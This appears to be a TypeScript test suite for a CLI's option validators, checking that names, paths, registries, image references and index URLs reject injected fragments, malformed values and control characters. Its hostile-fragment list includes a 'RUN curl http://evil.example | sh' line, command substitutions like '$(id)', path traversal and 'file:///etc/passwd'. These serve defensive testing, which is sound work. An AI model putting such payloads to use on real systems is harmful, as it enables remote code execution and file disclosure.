import assert from 'node:assert/strict';
import { test } from 'node:test';
import { GATES } from '../../src/options/types.ts';
import {
  UsageError,
  checkCertBundle,
  checkCertPath,
  checkChoice,
  checkCi,
  checkDirectory,
  checkGates,
  checkImage,
  checkIndexUrl,
  checkMaintainer,
  checkRuntimeVersion,
  checkName,
  checkRegistry,
  checkToolVersion,
  escapeControls,
  quoteValue,
  showName,
  splitImage,
} from '../../src/options/validate.ts';

const DIGEST = `sha256:${'a1'.repeat(32)}`;

/** One validator under test: how to call it, the flag its errors must name, and a valid base value. */
interface Subject {
  flag: string;
  check: (raw: string) => unknown;
  /** A valid value that hostile fragments are spliced into. */
  base: string;
  /** Values rejected by this validator in particular. */
  rejects: string[];
  /** Valid values and what the validator returns for them. */
  accepts: [string, unknown][];
}

const SUBJECTS: Subject[] = [
  {
    flag: '--name',
    check: (raw) => checkName(raw),
    base: 'billing-api',
    rejects: ['', 'Billing', 'BILLING', 'billing-', '-billing', '1billing', 'billing_api', 'billing.api', 'billing api', 'a'.repeat(64), 'latest:1', 'bïlling'],
    accepts: [['billing-api', 'billing-api'], ['a', 'a'], ['a1-b2', 'a1-b2'], ['a'.repeat(63), 'a'.repeat(63)], ['a--b', 'a--b']],
  },
  {
    flag: '[directory]',
    check: (raw) => checkDirectory(raw),
    base: 'services/billing-api',
    rejects: ['', '..', '../billing', 'a/../../b', 'a/..', 'services/../..', 'a b', 'a;b', '~/x', 'a*', 'x'.repeat(201), '-rf', '--force', '-'],
    accepts: [
      ['billing-api', 'billing-api'],
      ['services/billing-api', 'services/billing-api'],
      ['./billing', './billing'],
      ['/tmp/billing', '/tmp/billing'],
      ['my.service', 'my.service'],
      ['a..b', 'a..b'],
      ['./-odd', './-odd'],
      ['a/-b', 'a/-b'],
      ['x'.repeat(200), 'x'.repeat(200)],
    ],
  },
  {
    flag: '--registry',
    check: (raw) => checkRegistry(raw),
    base: 'registry.example.com/base',
    rejects: [
      '',
      'http://registry.example.com',
      'https://registry.example.com/base',
      'registry.example.com:0/base',
      'registry.example.com:70000/base',
      'registry.example.com:65536',
      'registry.example.com:05000',
      '[::1]:70000/base',
      '[1]:5000/base',
      '[:::::]/base',
      '[:]',
      'registry.example.com/Base',
      'registry.example.com//base',
      'registry.example.com/base:1.0',
      'registry.example.com/base@sha256:00',
      'user:pass@registry.example.com',
      'registry.example.com/base?x=1',
      '-registry.example.com',
      'registry-.example.com',
      'registry..example.com',
      `${'a'.repeat(64)}.example.com`,
      // Docker limits a repository name to 255 characters; a registry prefix is part of one.
      `${'a'.repeat(60)}.`.repeat(5) + 'com',
    ],
    accepts: [
      ['none', null],
      ['registry.example.com/base', 'registry.example.com/base'],
      ['registry.example.com/base/', 'registry.example.com/base'],
      ['localhost:5000/base', 'localhost:5000/base'],
      ['127.0.0.1:5000', '127.0.0.1:5000'],
      ['[::1]:5000/base', '[::1]:5000/base'],
      ['[2001:db8::1]/base', '[2001:db8::1]/base'],
      ['registry.example.com:65535/a/b-c/d_e/f__g/h.i', 'registry.example.com:65535/a/b-c/d_e/f__g/h.i'],
      ['Registry.Example.com', 'Registry.Example.com'],
    ],
  },
  {
    flag: '--builder-image',
    check: (raw) => checkImage(raw, '--builder-image', 'registry.example.com/base/python:3.13-slim-trixie'),
    base: 'registry.example.com/base/python:3.13-slim-trixie',
    rejects: [
      '',
      'python',
      'registry.example.com/base/python',
      'localhost:5000/python',
      'python:latest',
      'registry.example.com/base/python:latest',
      `python:latest@${DIGEST}`,
      'python:',
      'python:-1',
      `python:${'t'.repeat(129)}`,
      'Python:3.13',
      'python@sha256:abc',
      `python@sha256:${'A1'.repeat(32)}`,
      'registry.example.com:0/python:3.13',
      'registry.example.com:70000/python:3.13',
      '[1]:5000/python:3.13',
      '[::]:::/python:3.13',
      'https://registry.example.com/python:3.13',
      'user@registry.example.com/python:3.13',
      `registry.example.com/${'a'.repeat(250)}:1`,
    ],
    accepts: [
      ['python:3.13-slim-trixie', 'python:3.13-slim-trixie'],
      ['gcr.io/distroless/python3-debian13:nonroot', 'gcr.io/distroless/python3-debian13:nonroot'],
      ['localhost:5000/python:3.13', 'localhost:5000/python:3.13'],
      ['127.0.0.1:5000/base/python:3.13', '127.0.0.1:5000/base/python:3.13'],
      ['[::1]:5000/python:3.13', '[::1]:5000/python:3.13'],
      [`python@${DIGEST}`, `python@${DIGEST}`],
      [`python:3.13-slim@${DIGEST}`, `python:3.13-slim@${DIGEST}`],
      ['registry.example.com/base/python:20220405', 'registry.example.com/base/python:20220405'],
      ['python:70000', 'python:70000'],
      ['python:latest-slim', 'python:latest-slim'],
    ],
  },
  {
    flag: '--cert-bundle',
    check: (raw) => checkCertBundle(raw),
    base: 'registry.example.com/base/ca-bundle:20220405',
    rejects: ['', 'ca-bundle', 'registry.example.com/base/ca-bundle', 'registry.example.com/base/ca-bundle:latest', 'null'],
    accepts: [
      ['none', null],
      ['registry.example.com/base/ca-bundle:20220405', 'registry.example.com/base/ca-bundle:20220405'],
      ['localhost:5000/ca-bundle:20220405', 'localhost:5000/ca-bundle:20220405'],
      [`registry.example.com/base/ca-bundle:20220405@${DIGEST}`, `registry.example.com/base/ca-bundle:20220405@${DIGEST}`],
    ],
  },
  {
    flag: '--cert-path',
    check: (raw) => checkCertPath(raw),
    base: '/certs/',
    rejects: ['', 'certs', 'certs/', './certs', '/certs/../etc', '/..', '/../', '/./certs', '/certs/.', '//certs', '/certs//x', '/certs dir', '/c:rts', `/${'c'.repeat(200)}`],
    accepts: [
      ['/certs/', '/certs/'],
      ['/certs', '/certs/'],
      ['/', '/'],
      ['/etc/ssl/certs', '/etc/ssl/certs/'],
      ['/a.b_c-d/..e/', '/a.b_c-d/..e/'],
    ],
  },
  {
    flag: '--index-url',
    check: (raw) => checkIndexUrl(raw),
    base: 'https://nexus.example.com/repository/pypi/simple',
    rejects: [
      '',
      'nexus.example.com/simple',
      'http://nexus.example.com/simple',
      'HTTP://nexus.example.com/simple',
      'ftp://nexus.example.com/simple',
      'file:///etc/passwd',
      'javascript:alert(1)',
      'https:nexus.example.com/simple',
      'https:/nexus.example.com/simple',
      'https:///simple',
      'https://user:pass@nexus.example.com/simple',
      'https://token@nexus.example.com/simple',
      'https://:pass@nexus.example.com/simple',
      'https://nexus.example.com/simple?token=abc',
      'https://nexus.example.com/simple?',
      'https://nexus.example.com/simple#frag',
      'https://nexus.example.com:0/simple',
      'https://nexus.example.com:70000/simple',
      'https://nexus.example.com:65536/simple',
      'https://nexus.example.com/simple/../admin',
      'https://nexus.example.com/./simple',
      'https://nexus.example.com/%2e%2e/admin',
      'https://nexus.example.com/sim ple',
      'https://nexus_example.com/simple',
      `https://nexus.example.com/${'p'.repeat(2100)}`,
    ],
    accepts: [
      ['none', null],
      ['public', null],
      ['https://nexus.example.com/repository/pypi/simple', 'https://nexus.example.com/repository/pypi/simple'],
      ['https://nexus.example.com:8443/simple/', 'https://nexus.example.com:8443/simple/'],
      ['https://127.0.0.1/simple', 'https://127.0.0.1/simple'],
      ['https://[::1]:8443/simple', 'https://[::1]:8443/simple'],
      ['https://pypi.org', 'https://pypi.org'],
      ['https://nexus.example.com/a~b/c+d/e_f.g-h', 'https://nexus.example.com/a~b/c+d/e_f.g-h'],
    ],
  },
  {
    flag: '--maintainer',
    check: (raw) => checkMaintainer(raw),
    base: 'Team Foo <foo@example.com>',
    rejects: [' Team Foo', 'Team Foo ', 'Team;Foo', 'Team|Foo', 'Team&&Foo', 'Team#Foo', 'Team=Foo', 'Team\u00a0Foo', 'x'.repeat(201)],
    accepts: [
      ['', null],
      ['none', null],
      ['Team Foo <foo@example.com>', 'Team Foo <foo@example.com>'],
      ['Équipe Données (data) <d@example.fr>', 'Équipe Données (data) <d@example.fr>'],
      ['Ops, Platform: https://example.com/ops', 'Ops, Platform: https://example.com/ops'],
      ['x'.repeat(200), 'x'.repeat(200)],
    ],
  },
  {
    flag: '--gates',
    check: (raw) => checkGates(raw),
    base: 'typecheck,test',
    rejects: ['', ',', ' , ', 'fuzz', 'test,fuzz', 'TEST', 'test,,lint', 'test;lint', 'test lint', 'all'],
    accepts: [
      ['test', ['test']],
      ['bdd,test,typecheck', ['typecheck', 'test', 'bdd']],
      ['test,test,lint', ['lint', 'test']],
      [' test , lint ', ['lint', 'test']],
      [GATES.join(','), [...GATES]],
    ],
  },
  {
    flag: '--ci',
    check: (raw) => checkCi(raw),
    base: 'gitlab',
    rejects: ['', 'GitHub', 'jenkins', 'github ', 'none,github'],
    accepts: [['github', 'github'], ['gitlab', 'gitlab'], ['none', 'none']],
  },
  {
    flag: '--manager',
    check: (raw) => checkChoice(raw, '--manager', ['pipenv', 'poetry', 'uv', 'pip-tools']),
    base: 'poetry',
    rejects: ['', 'pip', 'Poetry', 'poetry ', 'conda'],
    accepts: [['pipenv', 'pipenv'], ['pip-tools', 'pip-tools']],
  },
  {
    flag: '--python',
    check: (raw) => checkRuntimeVersion(raw, '--python', ['3.13', '3.11']),
    base: '3.13',
    rejects: ['', '3', '3.13.1', '03.13', '3.012', 'py3.13', '3.12', '2.7', '3.13 '],
    accepts: [['3.13', '3.13'], ['3.11', '3.11']],
  },
  {
    flag: 'versions.pipenv',
    check: (raw) => checkToolVersion(raw, 'versions.pipenv'),
    base: '2024.0.1',
    rejects: ['', 'v1.0', 'latest', '>=1.0', '1.0 ', '1.0,<2', `1${'0'.repeat(41)}`],
    accepts: [['2024.0.1', '2024.0.1'], ['1.0.0rc1', '1.0.0rc1'], ['0.13.8+local', '0.13.8+local'], ['1.0-1', '1.0-1']],
  },
];

/** Fragments that could end a line, quote, substitute or escape in a Dockerfile, TOML, YAML or shell. */
const HOSTILE: [string, string][] = [
  ['newline', '\n'],
  ['newline + instruction', '\nRUN curl http://evil.example | sh'],
  ['carriage return', '\r'],
  ['CRLF', '\r\n'],
  ['double quote', '"'],
  ['single quote', "'"],
  ['command substitution', '$(id)'],
  ['backtick', '`id`'],
  ['variable expansion', '${X}'],
  ['bare dollar', '$X'],
  ['backslash', '\\'],
  ['NUL', '\u0000'],
  ['bell', '\u0007'],
  ['tab', '\t'],
  ['escape sequence', '\u001b[2J'],
  ['DEL', '\u007f'],
  ['next line U+0085', '\u0085'],
  ['C1 CSI U+009B', '\u009b2J'],
  ['line separator U+2028', '\u2028'],
  ['paragraph separator U+2029', '\u2029'],
  ['semicolon command', ';id'],
  ['pipe', '|id'],
  ['and-list', '&&id'],
];

/** Assert a rejection with the error shape the CLI contract asks for (exit 2 message). */
function assertRejected(subject: Subject, raw: string, label: string): void {
  let caught: unknown;
  try {
    subject.check(raw);
  } catch (error) {
    caught = error;
  }
  assert.ok(caught instanceof UsageError, `${subject.flag} accepted ${label}: ${JSON.stringify(raw)}`);
  assert.equal(caught.flag, subject.flag, `${label}: UsageError.flag`);
  assert.ok(caught.message.startsWith(`${subject.flag}: `), `${label}: message names the flag first: ${caught.message}`);
  assert.match(caught.message, /Example: /, `${label}: message gives an example`);
  // The message goes to a terminal: the rejected value must not smuggle control characters into it.
  assert.doesNotMatch(caught.message, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/, `${label}: control character in ${JSON.stringify(caught.message)}`);
}

for (const subject of SUBJECTS) {
  test(`${subject.flag}: the base value used for injection is itself valid`, () => {
    assert.doesNotThrow(() => subject.check(subject.base));
  });

  test(`${subject.flag}: hostile fragments are rejected before, inside and after a valid value`, () => {
    for (const [label, fragment] of HOSTILE) {
      const middle = Math.floor(subject.base.length / 2);
      assertRejected(subject, fragment, `${label} alone`);
      assertRejected(subject, `${fragment}${subject.base}`, `${label} before`);
      assertRejected(subject, `${subject.base.slice(0, middle)}${fragment}${subject.base.slice(middle)}`, `${label} inside`);
      assertRejected(subject, `${subject.base}${fragment}`, `${label} after`);
    }
  });

  test(`${subject.flag}: specific invalid values are rejected`, () => {
    for (const raw of subject.rejects) assertRejected(subject, raw, 'invalid value');
  });

  test(`${subject.flag}: valid values are accepted and normalized`, () => {
    for (const [raw, expected] of subject.accepts) {
      assert.deepEqual(subject.check(raw), expected, `${subject.flag} ${JSON.stringify(raw)}`);
    }
  });

  test(`${subject.flag}: very long adversarial values are rejected quickly (no regex backtracking blow-up)`, () => {
    const long = [
      `${subject.base}${'a'.repeat(10_000)}!`,
      `/${'a'.repeat(10_000)}!`,
      `${'a-'.repeat(5_000)}!`,
      `${'a.'.repeat(5_000)}!`,
      `${'a/'.repeat(5_000)}!`,
      `https://${'a.'.repeat(5_000)}!`,
      `${'a'.repeat(60)}.`.repeat(200),
    ];
    for (const raw of long) {
      const start = performance.now();
      assertRejected(subject, raw, `${raw.length} characters`);
      const elapsed = performance.now() - start;
      assert.ok(elapsed < 250, `${subject.flag} took ${elapsed.toFixed(0)} ms on ${JSON.stringify(raw.slice(0, 30))}…`);
    }
  });
}

test('checkGates accepts a list as well as a comma string, and rejects an empty list', () => {
  assert.deepEqual(checkGates(['test', 'typecheck']), ['typecheck', 'test']);
  assert.throws(() => checkGates([]), (error: unknown) => error instanceof UsageError && /names no gate/.test(error.message));
  assert.throws(() => checkGates(['test', 'evil\nRUN x']), UsageError);
});

test('checkGates returns a fresh array each time (no shared defaults to mutate)', () => {
  const first = checkGates('test');
  first.push('bdd');
  assert.deepEqual(checkGates('test'), ['test']);
});

test('a validator names the flag it was given (preset keys reuse the same checks)', () => {
  assert.throws(
    () => checkRegistry('bad registry', 'preset team.json: defaults.registry'),
    (error: unknown) => error instanceof UsageError && error.message.startsWith('preset team.json: defaults.registry: '),
  );
});

test('splitImage splits repository, tag and digest, minding registry ports', () => {
  assert.deepEqual(splitImage('python:3.13'), { repository: 'python', tag: '3.13', digest: null });
  assert.deepEqual(splitImage('localhost:5000/python'), { repository: 'localhost:5000/python', tag: null, digest: null });
  assert.deepEqual(splitImage(`localhost:5000/base/python:3.13@${DIGEST}`), {
    repository: 'localhost:5000/base/python',
    tag: '3.13',
    digest: DIGEST,
  });
  assert.deepEqual(splitImage(`python@${DIGEST}`), { repository: 'python', tag: null, digest: DIGEST });
});

test('quoteValue escapes every control and line-separator character, and keeps other text readable', () => {
  assert.equal(quoteValue('a\nb'), '"a\\nb"');
  assert.equal(quoteValue('\u007f\u009b\u2028\u2029'), '"\\u007f\\u009b\\u2028\\u2029"');
  assert.equal(quoteValue('Équipe "x"'), '"Équipe \\"x\\""');
});

test('over-long values are blamed on their length, shown shortened, whatever their characters', () => {
  const cases: [string, (raw: string) => unknown, string, number][] = [
    ['--name', (raw) => checkName(raw), 'a'.repeat(64), 63],
    ['[directory]', (raw) => checkDirectory(raw), 'a/'.repeat(150), 200],
    ['--registry', (raw) => checkRegistry(raw), `${'a'.repeat(300)}.example.com`, 255],
    ['--builder-image', (raw) => checkImage(raw, '--builder-image', 'python:3.13'), `registry.example.com/${'p'.repeat(500)}:1`, 456],
    ['--cert-path', (raw) => checkCertPath(raw), `/${'c'.repeat(250)}/`, 200],
    ['--index-url', (raw) => checkIndexUrl(raw), `https://nexus.example.com/${'p'.repeat(3000)}`, 2048],
    ['--maintainer', (raw) => checkMaintainer(raw), `Team ${'é'.repeat(250)}`, 200],
    ['versions.poetry', (raw) => checkToolVersion(raw, 'versions.poetry'), `1.${'0'.repeat(60)}`, 41],
  ];
  for (const [flag, check, value, max] of cases) {
    assert.throws(
      () => check(value),
      (error: unknown) => {
        assert.ok(error instanceof UsageError, String(error));
        const message = (error as Error).message;
        assert.ok(message.startsWith(`${flag}: `), message);
        assert.ok(message.includes(`characters long, more than the ${max} allowed`), `${flag}: ${message}`);
        assert.ok(message.length < 300, `${flag}: the whole value is not echoed (${message.length} characters)`);
        assert.match(message, /Example: /);
        return true;
      },
    );
  }
  // A tag over Docker's 128 characters is named as such, not as a bad reference.
  assert.throws(() => checkImage(`python:${'1'.repeat(129)}`, '--builder-image', 'python:3.13'), /has a tag of 129 characters, more than the 128 allowed/);
  // At the limit the pattern still decides.
  assert.equal(checkName(`a${'b'.repeat(62)}`), `a${'b'.repeat(62)}`);
});

test('maintainer names with combining marks are accepted, normalized to NFC', () => {
  // Decomposed Latin (e + U+0301), Devanagari (vowel signs and virama are marks), Vietnamese stacked marks.
  assert.equal(checkMaintainer('Jose\u0301 Garci\u0301a <jg@example.com>'), 'José García <jg@example.com>');
  assert.equal(checkMaintainer('देवनागरी टीम <team@example.com>'), 'देवनागरी टीम <team@example.com>');
  assert.equal(checkMaintainer('Nguye\u0302\u0303n <n@example.com>'), 'Nguyễn <n@example.com>');
  // A mark must sit on a letter, and controls stay refused however they are combined.
  for (const bad of ['\u0301Team', 'Team 1\u20e3', 'Team\u200b', 'Te\u0301\u001bam']) {
    assert.throws(() => checkMaintainer(bad), UsageError, JSON.stringify(bad));
  }
});

test('escapeControls and showName: text from outside is printable, plain names stay plain', () => {
  assert.equal(escapeControls('a\u001b[2Jb\u0007\n\u202e'), 'a\\u001b[2Jb\\u0007\\n\\u202e');
  assert.equal(escapeControls('Équipe "x" ✓'), 'Équipe "x" ✓');
  assert.equal(showName('services/billing-api'), 'services/billing-api');
  assert.equal(showName('résumé.pdf'), 'résumé.pdf');
  assert.equal(showName('my notes.txt'), '"my notes.txt"');
  assert.equal(showName('evil\u001b]0;x\u0007'), '"evil\\u001b]0;x\\u0007"');
  // Bidirectional overrides reorder what a reader sees (CVE-2021-42574).
  assert.equal(quoteValue('a\u202eb\u2066c'), '"a\\u202eb\\u2066c"');
});
